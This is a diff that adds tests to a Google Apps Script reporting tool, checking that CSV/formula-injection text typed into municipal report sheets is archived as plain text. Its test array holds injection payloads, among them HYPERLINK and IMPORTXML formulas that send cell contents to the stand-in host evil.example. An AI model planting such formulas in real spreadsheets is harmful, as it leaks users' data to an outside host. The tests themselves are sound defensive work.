@@ -264,6 +264,56 @@ describe('submission, «Сбор отчётов» and the archive that is never 
   });
 });
 
+describe('text a municipality typed stays text in the archive', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Отчёт")', '+A1', '-HYPERLINK("http://evil.example")', '@SUM(A1:A9)',
+    ' =1+1', '\t=IMPORTXML("http://evil.example","//a")', '=1+1',
+  ];
+
+  test('the fake parses as Sheets does: «=…» becomes a formula unless the cell is plain text', () => {
+    const world = new World(OWNER);
+    const sheet = world.spreadsheet.insertSheet('x') as unknown as FakeSheet;
+    sheet.getRange(1, 1, 1, 3).setValues([['=1+1', ' =A1', '+A1']]);
+    expect(sheet.getRange(1, 1, 1, 3).getFormulas()).toEqual([['=1+1', '=A1', '=+A1']]);
+    sheet.getRange(2, 1, 1, 3).setNumberFormats([['@', '@', '@']]);
+    sheet.getRange(2, 1, 1, 3).setValues([['=1+1', ' =A1', '+A1']]);
+    expect(sheet.getRange(2, 1, 1, 3).getValues()).toEqual([['=1+1', ' =A1', '+A1']]);
+    expect(sheet.getRange(2, 1, 1, 3).getFormulas()).toEqual([['', '', '']]);
+  });
+
+  test('hostile text in every column of a report is archived as text, not as a live formula', () => {
+    const world = setUp();
+    createReports(envOf(world, '2025-02-10'));
+    const a = reportOf(world, MA);
+    const grid = a.grid();
+    const header = grid.findIndex((r) => r.includes('Мероприятие') && r.includes('Статус'));
+    let first = header + 1;
+    while (grid[first].some((c) => c !== '')) first++;
+    const width = a.getLastColumn();
+    const typed: { row: number; col: number; text: string }[] = [];
+    for (let k = 0; k < 5; k++) {
+      for (let col = 1; col <= width; col++) typed.push({ row: first + 1 + k, col, text: HOSTILE[(col + k) % HOSTILE.length] });
+    }
+    // The editor formats the cells as plain text (Format → Number → Plain text) and types into them.
+    world.as(A[0], () => {
+      for (const t of typed) {
+        const cell = a.getRange(t.row, t.col);
+        cell.setNumberFormats([['@']]);
+        cell.setValue(t.text);
+      }
+    });
+    for (const t of typed) expect(a.getRange(t.row, t.col).getValue()).toBe(t.text);
+    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
+    collectReports(envOf(world, '2025-04-04'));
+    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
+    const snap = archive.grid();
+    const marker = snap.findIndex((r) => r[0] === `■ ${MA}`);
+    expect(marker).toBeGreaterThan(0);
+    for (const t of typed) expect(snap[marker + t.row][t.col - 1]).toBe(t.text);
+    expect(archive.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
+  });
+});
+
 describe('templates in Google Sheets', () => {
   test('the regional roadmap reads back as the .xlsx one does, with status lists and date checks', () => {
     const world = new World(OWNER);
